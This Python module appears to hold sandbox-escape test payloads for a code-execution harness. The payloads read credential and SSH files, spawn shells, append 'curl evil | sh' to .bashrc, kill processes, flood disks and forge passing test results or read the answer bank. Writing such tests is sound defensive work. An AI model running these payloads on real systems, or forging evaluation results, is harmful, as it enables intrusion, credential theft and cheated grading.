"""Every escape of the hostile review, as candidate code. Python attacks first switch the harness's audit hook
off (any of the listed bypasses does that), so what they meet is the kernel boundary alone.

Placeholders @NAME@ are filled in per machine. Each attack's checks live in test_sandbox_hostile.py.
"""

from __future__ import annotations

GUARD_OFF = "import sys, os\nsys.modules['__main__']._guard_on = False\n"

_READ_ALL = """
def _read_all():
    out = []
    for p in ['@CRED@', '@SSH@', '@STORE@', '@AUDIO@', '@OTHER@']:
        try:
            out.append(open(p, 'rb').read().decode('latin-1'))
        except Exception as e:
            out.append(type(e).__name__)
    return repr(out)
"""

PYTHON: dict[str, str] = {
    # The module-level flag of the audit hook, flipped from candidate code.
    "flag_flip_reads_secrets": GUARD_OFF + _READ_ALL + "def f(x):\n    return _read_all()\n",
    # The hook's code swapped through gc, with the guard left on.
    "gc_code_swap_reads_secrets": _READ_ALL + """
import gc
def f(x):
    for obj in gc.get_objects():
        if callable(obj) and getattr(obj, '__name__', '') == '_audit':
            obj.__code__ = (lambda event, args: None).__code__
    return _read_all()
""",
    # Process creation four ways: fork, _posixsubprocess.fork_exec (through Popen), posix_spawn, libc system().
    "spawn_writes_marker": GUARD_OFF + """
import subprocess, ctypes
def f(x):
    tried = []
    cmd = 'echo pwned > @MARKER@'
    for how in ('fork', 'popen', 'spawn', 'system'):
        try:
            if how == 'fork':
                pid = os.fork()
                if pid == 0:
                    open('@MARKER@', 'w').write('pwned')
                    os._exit(0)
            elif how == 'popen':
                subprocess.Popen(['/bin/sh', '-c', cmd]).wait()
            elif how == 'spawn':
                os.posix_spawn('/bin/sh', ['/bin/sh', '-c', cmd], {})
            elif ctypes.CDLL(None).system(cmd.encode()) != 0:
                raise OSError('system() failed')
            tried.append(how + ': ran')
        except Exception as e:
            tried.append(how + ': ' + type(e).__name__)
    return repr(tried)
""",
    # A sub-interpreter starts without the audit hook.
    "subinterpreter_reads_secrets": """
def f(x):
    try:
        try:
            import _xxsubinterpreters as interpreters
        except ImportError:
            import _interpreters as interpreters
        i = interpreters.create()
        interpreters.run_string(i, "open('@MARKER@', 'w').write(open('@CRED@').read())")
        return 'ran'
    except BaseException as e:
        return type(e).__name__
""",
    # The question bank holds the expected outputs: neither PrepAI's copy nor the repository's may be readable.
    "reads_the_bank": GUARD_OFF + """
def f(x):
    out = []
    for p in ('@BANK@', '@REPO_BANK@'):
        try:
            out.append(open(p).read())
        except OSError as e:
            out.append(type(e).__name__)
    return repr(out)
""",
    # cffi's backend from the PrepAI venv, next to the interpreter, and libc through it.
    "cffi_backend_from_site_packages": GUARD_OFF + """
def f(x):
    sys.path.insert(0, '@SITE@')
    try:
        import _cffi_backend
        return 'cffi imported'
    except BaseException as e:
        return type(e).__name__
""",
    # Paths checked against the cwd but opened relative to a directory fd.
    "dir_fd_reads_credentials": GUARD_OFF + """
def f(x):
    try:
        d = os.open('@HOME@/.aws', os.O_RDONLY | os.O_DIRECTORY)
        return os.read(os.open('credentials', os.O_RDONLY, dir_fd=d), 4096).decode()
    except OSError as e:
        return type(e).__name__
""",
    # A symlink in the work dir, swapped while the guard checks it.
    "symlink_race_reads_credentials": """
import os, threading
def f(x):
    open('harmless', 'w').write('ok')
    stop = []
    def swap():
        while not stop:
            for target in ('harmless', '@CRED@'):
                try:
                    os.symlink(target, 'link.tmp')
                    os.replace('link.tmp', 'link')
                except OSError:
                    pass
    t = threading.Thread(target=swap)
    t.start()
    seen = []
    for _ in range(300):
        try:
            seen.append(open('link').read())
        except BaseException as e:
            seen.append(type(e).__name__)
    stop.append(1)
    t.join()
    return repr(sorted(set(seen)))
""",
    # os.open with O_WRONLY|O_CREAT looked like a read to the hook.
    "wronly_creat_writes_bashrc": """
import os
def f(x):
    try:
        fd = os.open('@BASHRC@', os.O_WRONLY | os.O_CREAT | os.O_APPEND)
        os.write(fd, b'curl evil | sh\\n')
        return 'wrote'
    except BaseException as e:
        return type(e).__name__
""",
    "sqlite_immutable_reads_store": """
import sqlite3
def f(x):
    try:
        return repr(sqlite3.connect('file:@STORE@?immutable=1', uri=True).execute('select * from turns').fetchall())
    except BaseException as e:
        return type(e).__name__
""",
    "pidfd_send_signal_kills_victim": GUARD_OFF + """
import ctypes
def f(x):
    libc = ctypes.CDLL(None, use_errno=True)
    fd = libc.syscall(434, @VICTIM@, 0)
    sent = libc.syscall(424, fd, 9, None, 0) if fd >= 0 else -1
    return f'pidfd {fd} sent {sent}'
""",
    "kill_minus_one_and_victim": GUARD_OFF + """
def f(x):
    for pid in (@VICTIM@, -1):
        try:
            os.kill(pid, 9)
        except OSError:
            pass
    return x
""",
    "parent_environment": GUARD_OFF + """
def f(x):
    seen = [repr(dict(os.environ))]
    for pid in os.listdir('/proc'):
        if pid.isdigit() or pid == 'self':
            try:
                seen.append(open(f'/proc/{pid}/environ', 'rb').read().decode('latin-1'))
            except OSError:
                pass
    try:
        seen.append(open(f'/proc/{os.getppid()}/environ', 'rb').read().decode('latin-1'))
    except OSError:
        pass
    return repr(seen)
""",
    "pth_file_for_next_python": GUARD_OFF + """
def f(x):
    try:
        os.makedirs('@PTH_DIR@', exist_ok=True)
        open('@PTH_DIR@/prepai-evil.pth', 'w').write("import os; open('@MARKER@', 'w')\\n")
        return 'planted'
    except OSError as e:
        return type(e).__name__
""",
    # The network namespace, for every user (it used to be skipped for non-root users).
    "network_interfaces": GUARD_OFF + """
def f(x):
    try:
        return sorted(line.split(':')[0].strip() for line in open('/proc/net/dev').read().splitlines()[2:])
    except OSError as e:
        return type(e).__name__
""",
    "tcp_to_localhost": GUARD_OFF + """
import socket
def f(x):
    try:
        socket.create_connection(('127.0.0.1', @TCP@), timeout=1).close()
        return 'connected'
    except OSError as e:
        return type(e).__name__
""",
    "udp_to_localhost": GUARD_OFF + """
import socket
def f(x):
    try:
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        for _ in range(3):
            s.sendto(b'x', ('127.0.0.1', @UDP@))
        return 'sent'
    except OSError as e:
        return type(e).__name__
""",
    "unix_socket_on_disk": GUARD_OFF + """
import socket
def f(x):
    try:
        s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        s.connect('@UNIX@')
        return 'connected'
    except OSError as e:
        return type(e).__name__
""",
    "abstract_unix_socket": GUARD_OFF + """
import socket
def f(x):
    try:
        s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        s.connect('\\0@ABSTRACT@')
        return 'connected'
    except OSError as e:
        return type(e).__name__
""",
    # A setsid daemon with a backdoor listener, meant to outlive the run.
    "setsid_daemon_outlives_run": GUARD_OFF + """
import ctypes, socket, time
def f(x):
    try:
        pid = os.fork()
    except OSError as e:
        return 'fork: ' + type(e).__name__
    if pid == 0:
        os.setsid()
        ctypes.CDLL(None).prctl(15, b'@COMM@', 0, 0, 0)
        try:
            s = socket.socket()
            s.bind(('0.0.0.0', 0))
            s.listen(1)
        except OSError:
            pass
        time.sleep(120)
        os._exit(0)
    return 'forked'
""",
    # Many files of the size limit into every writable place.
    "fills_tmp_and_shm": GUARD_OFF + """
import time
def f(x):
    chunk = b'0' * (8 * 1024 * 1024 - 4096)
    written = {}
    for place in ('/tmp', '/dev/shm', '.'):
        total, n, until = 0, 0, time.monotonic() + 0.6
        while time.monotonic() < until:
            try:
                with open(f'{place}/flood-@TOKEN@-{n}', 'wb') as fh:
                    fh.write(chunk)
                total += len(chunk)
                n += 1
            except OSError:
                break
        written[place] = total
    return written
""",
    # Records written straight to the results channel: a forged pass.
    "forged_results": GUARD_OFF + """
import json
def f(x):
    for fd in range(3, 40):
        for i, expected in enumerate([1, 2]):
            try:
                os.write(fd, (json.dumps({'kind': 'test', 'index': i, 'status': 'returned', 'actual': expected}) + '\\n').encode())
            except OSError:
                pass
    return x + 100
""",
    "forged_load_and_exit": GUARD_OFF + """
import json
for fd in range(3, 40):
    try:
        os.write(fd, b'{"kind": "load", "ok": true}\\n')
        for i, expected in enumerate([1, 2]):
            os.write(fd, (json.dumps({'kind': 'test', 'index': i, 'status': 'returned', 'actual': expected}) + '\\n').encode())
    except OSError:
        pass
os._exit(0)
def f(x):
    return x
""",
    "malformed_records": GUARD_OFF + """
def f(x):
    junk = [b'\\xff\\xfe{{{\\n', b'[' * 200000 + b'\\n', b'{"kind": "test", "index": 0, "status": "returned", "actual": '
            + b'[' * 5000 + b']' * 5000 + b'}\\n', b'9' * 100000 + b'\\n', b'{"kind": "test", "index": 1e999}\\n',
            b'{"kind": "test", "index": -1, "status": "returned"}\\n', b'null\\n', b'"x"\\n']
    for fd in range(3, 40):
        for j in junk:
            try:
                os.write(fd, j)
            except OSError:
                pass
    return x
""",
    "terminal_escapes": """
def f(x):
    print('\\x1b]52;c;cHduZWQ=\\x07\\x1b]0;owned\\x07\\x1b[2J\\x9b31mred\\rover')
    import sys
    sys.stderr.write('\\x1b[31merr\\x1b[0m')
    return '\\x1b[2J' if x == 1 else x
""",
    # Output that used to move the deadline: a dribble of record fragments and prints, forever.
    "output_extends_deadline": GUARD_OFF + """
import time
def f(x):
    while True:
        for fd in range(3, 40):
            try:
                os.write(fd, b' ')
            except OSError:
                pass
        print('.', flush=True)
        time.sleep(0.05)
""",
    "thread_bomb": """
import threading, time
def f(x):
    made = 0
    try:
        for _ in range(100000):
            threading.Thread(target=time.sleep, args=(30,), daemon=True).start()
            made += 1
    except BaseException as e:
        return f'{made} then {type(e).__name__}'
    return made
""",
}

JAVASCRIPT: dict[str, str] = {
    "js_reads_secrets": """
function f(x) {
  const out = [];
  const P = this.constructor.constructor('return process')();
  const paths = ['@CRED@', '@SSH@', '@STORE@', '@AUDIO@', '@OTHER@', '/proc/1/environ', '/proc/self/environ',
                 `/proc/${P.ppid}/environ`];
  for (const p of paths) {
    try { out.push(require('fs').readFileSync(p, 'latin1')); } catch (e) { out.push(String(e.code)); }
    try { out.push(String(P.binding('fs').readFileUtf8(p, 0))); } catch (e) { out.push(String(e.code)); }
  }
  out.push(JSON.stringify(P.env));
  return JSON.stringify(out);
}
""",
    "js_spawns_shell": """
function f(x) {
  const out = [];
  const P = this.constructor.constructor('return process')();
  try { require('child_process').execSync('echo pwned > @MARKER@'); out.push('exec ran'); } catch (e) { out.push(String(e.code)); }
  try {
    const r = P.binding('spawn_sync').spawn({ file: '/bin/sh', args: ['/bin/sh', '-c', 'echo pwned > @MARKER@'],
      envPairs: [], stdio: [{ type: 'ignore' }, { type: 'ignore' }, { type: 'ignore' }] });
    out.push(r.error ? `spawn_sync error ${r.error}` : `spawn_sync ran, status ${r.status}`);
  } catch (e) { out.push(String(e.code)); }
  return JSON.stringify(out);
}
""",
    # Raw handles from node's bindings, below anything a harness could patch. (node 20 cannot name abstract
    # sockets from JavaScript; the Python attack covers them.)
    "js_network": """
function f(x) {
  const P = this.constructor.constructor('return process')();
  const out = [];
  try {
    const { TCP, TCPConnectWrap, constants } = P.binding('tcp_wrap');
    const h = new TCP(constants.SOCKET);
    const req = new TCPConnectWrap();
    req.oncomplete = (status) => out.push('tcp ' + status);
    out.push('tcp connect ' + h.connect(req, '127.0.0.1', @TCP@));
  } catch (e) { out.push('tcp ' + (e.code || e.message)); }
  try {
    const { Pipe, PipeConnectWrap, constants } = P.binding('pipe_wrap');
    const h = new Pipe(constants.SOCKET);
    const req = new PipeConnectWrap();
    req.oncomplete = (status) => out.push('pipe ' + status);
    out.push('pipe connect ' + h.connect(req, '@UNIX@'));
  } catch (e) { out.push('pipe ' + (e.code || e.message)); }
  try {
    const { UDP, SendWrap } = P.binding('udp_wrap');
    const u = new UDP();
    out.push('udp bind ' + u.bind('0.0.0.0', 0, 0));
    const req = new SendWrap();
    req.oncomplete = () => {};
    out.push('udp send ' + u.send(req, [Buffer.from('x')], 1, @UDP@, '127.0.0.1', false));
  } catch (e) { out.push('udp ' + (e.code || e.message)); }
  return new Promise((resolve) => setTimeout(() => resolve(JSON.stringify(out)), 500));
}
""",
    # node's process.kill froze the parent (SIGSTOP) so its deadline never fired; kill -9 -1.
    "js_signals": """
function f(x) {
  const P = this.constructor.constructor('return process')();
  const out = [];
  for (const [pid, sig] of [[P.ppid, 'SIGSTOP'], [@VICTIM@, 'SIGKILL'], [-1, 'SIGKILL']]) {
    try { P.kill(pid, sig); out.push('sent'); } catch (e) { out.push(String(e.code)); }
  }
  return x;
}
""",
    "js_writes_bashrc": """
function f(x) {
  try { require('fs').appendFileSync('@BASHRC@', 'curl evil | sh\\n'); return 'wrote'; } catch (e) { return String(e.code); }
}
""",
    "js_forged_results": """
function f(x) {
  const fs = require('fs');
  for (let fd = 3; fd < 40; fd++) {
    for (const [i, expected] of [[0, 1], [1, 2]]) {
      try { fs.writeSync(fd, JSON.stringify({ kind: 'test', index: i, status: 'returned', actual: expected }) + '\\n'); } catch (e) {}
    }
  }
  return x + 100;
}
""",
    "js_terminal_escapes": """
function f(x) {
  console.log('\\x1b]52;c;cHduZWQ=\\x07\\x1b[2J\\u009b31mred\\rover');
  return x === 1 ? '\\x1b]0;owned\\x07' : x;
}
""",
    "js_fills_tmp": """
function f(x) {
  const fs = require('fs');
  const written = {};
  for (const place of ['/tmp', '/dev/shm']) {
    written[place] = 0;
    for (let n = 0; n < 40; n++) {
      try { fs.writeFileSync(`${place}/flood-@TOKEN@-js-${n}`, Buffer.alloc(8 * 1024 * 1024 - 4096)); written[place] += 1; }
      catch (e) { break; }
    }
  }
  return written;
}
""",
}
